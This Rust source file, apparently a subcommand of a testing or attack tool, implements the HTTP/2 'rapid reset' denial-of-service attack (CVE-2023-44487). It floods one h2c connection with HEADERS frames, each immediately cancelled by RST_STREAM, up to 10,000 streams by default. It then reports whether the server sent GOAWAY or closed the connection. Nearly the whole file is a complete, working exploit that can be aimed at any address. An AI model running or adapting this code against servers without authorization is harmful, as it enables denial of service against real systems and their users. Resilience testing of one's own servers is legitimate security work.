//! `h2-rapid-reset`: the HTTP/2 "rapid reset" attack (CVE-2023-44487) on one h2c
//! connection: the client preface, then for each of N streams a HEADERS frame (GET /)
//! at once followed by RST_STREAM(CANCEL), written as fast as the socket takes them;
//! then it reads what the server sends until it closes or goes quiet. Prints one JSON
//! line ([`RapidResetReport`]).

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use clap::Args;
use serde::Serialize;

/// HTTP/2 frame types used.
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
/// HEADERS flags END_STREAM | END_HEADERS.
const END_STREAM_HEADERS: u8 = 0x5;
/// RST_STREAM error code CANCEL.
const CANCEL: u32 = 0x8;
/// HPACK static table indices: `:method GET`, `:scheme http`, `:path /`.
const GET_ROOT: [u8; 3] = [0x82, 0x86, 0x84];
/// Frames are written in batches of about this many bytes.
const BATCH: usize = 64 * 1024;

/// Arguments of `h2-rapid-reset`.
#[derive(Args)]
pub struct RapidResetArgs {
    /// Server address and port (h2c with prior knowledge).
    #[arg(long)]
    addr: SocketAddr,
    /// Streams opened and reset.
    #[arg(long, default_value_t = 10_000)]
    streams: u32,
    /// Bound on connect, each write and each read.
    #[arg(long, default_value_t = 5000)]
    timeout_ms: u64,
}

/// What `h2-rapid-reset` saw.
#[derive(Debug, Serialize)]
struct RapidResetReport {
    /// Streams whose HEADERS and RST_STREAM were written.
    streams_sent: u32,
    /// Why writing stopped early, if it did.
    write_error: Option<String>,
    /// Bytes the server sent.
    received: u64,
    /// Whether those bytes held a GOAWAY frame.
    goaway: bool,
    /// Whether the server closed the connection (else it went quiet for the timeout).
    closed: bool,
    /// The whole run, in milliseconds.
    elapsed_ms: u64,
}

fn frame(buf: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = u32::try_from(payload.len()).unwrap_or(u32::MAX);
    buf.extend_from_slice(&len.to_be_bytes()[1..]);
    buf.extend_from_slice(&[kind, flags]);
    buf.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    buf.extend_from_slice(payload);
}

/// Runs the attack and prints its report.
pub fn run(args: &RapidResetArgs) -> Result<()> {
    let start = Instant::now();
    let timeout = Duration::from_millis(args.timeout_ms.max(1));
    let mut conn = TcpStream::connect_timeout(&args.addr, timeout)
        .with_context(|| format!("connect {}", args.addr))?;
    conn.set_write_timeout(Some(timeout))?;
    conn.set_read_timeout(Some(timeout))?;
    let mut buf = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut buf, SETTINGS, 0, 0, &[]);
    let mut report = RapidResetReport {
        streams_sent: 0,
        write_error: None,
        received: 0,
        goaway: false,
        closed: false,
        elapsed_ms: 0,
    };
    let mut batched = 0;
    for i in 0..args.streams {
        let id = 2 * i + 1;
        frame(&mut buf, HEADERS, END_STREAM_HEADERS, id, &GET_ROOT);
        frame(&mut buf, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
        batched += 1;
        if buf.len() >= BATCH || i + 1 == args.streams {
            if let Err(e) = conn.write_all(&buf) {
                report.write_error = Some(e.to_string());
                break;
            }
            report.streams_sent += batched;
            batched = 0;
            buf.clear();
        }
    }
    // Read what comes back: frames (a GOAWAY among them, perhaps) until close or quiet.
    let mut received = Vec::new();
    let mut chunk = vec![0; 64 * 1024];
    loop {
        match conn.read(&mut chunk) {
            Ok(0) => {
                report.closed = true;
                break;
            }
            Ok(n) => {
                report.received += n as u64;
                // Keep enough to find the frames; the server's answers are small.
                if received.len() < 16 << 20 {
                    received.extend_from_slice(&chunk[..n]);
                }
            }
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => break,
            Err(_) => {
                report.closed = true;
                break;
            }
        }
    }
    report.goaway = has_goaway(&received);
    report.elapsed_ms = u64::try_from(start.elapsed().as_millis()).unwrap_or(u64::MAX);
    println!("{}", serde_json::to_string(&report)?);
    Ok(())
}

/// Whether the frames in `bytes` (from the server: no preface) include a GOAWAY.
fn has_goaway(mut bytes: &[u8]) -> bool {
    while bytes.len() >= 9 {
        let len = usize::from(bytes[0]) << 16 | usize::from(bytes[1]) << 8 | usize::from(bytes[2]);
        if bytes[3] == GOAWAY {
            return true;
        }
        let Some(rest) = bytes.get(9 + len..) else {
            return false;
        };
        bytes = rest;
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_laid_out_and_goaway_is_found() {
        let mut buf = Vec::new();
        frame(&mut buf, SETTINGS, 0, 0, &[]);
        frame(&mut buf, HEADERS, END_STREAM_HEADERS, 3, &GET_ROOT);
        assert_eq!(&buf[..9], &[0, 0, 0, SETTINGS, 0, 0, 0, 0, 0]);
        assert_eq!(&buf[9..18], &[0, 0, 3, HEADERS, 5, 0, 0, 0, 3]);
        assert!(!has_goaway(&buf));
        frame(&mut buf, GOAWAY, 0, 0, &[0; 8]);
        assert!(has_goaway(&buf));
        assert!(!has_goaway(&buf[..20]), "a cut frame is not read past");
    }
}
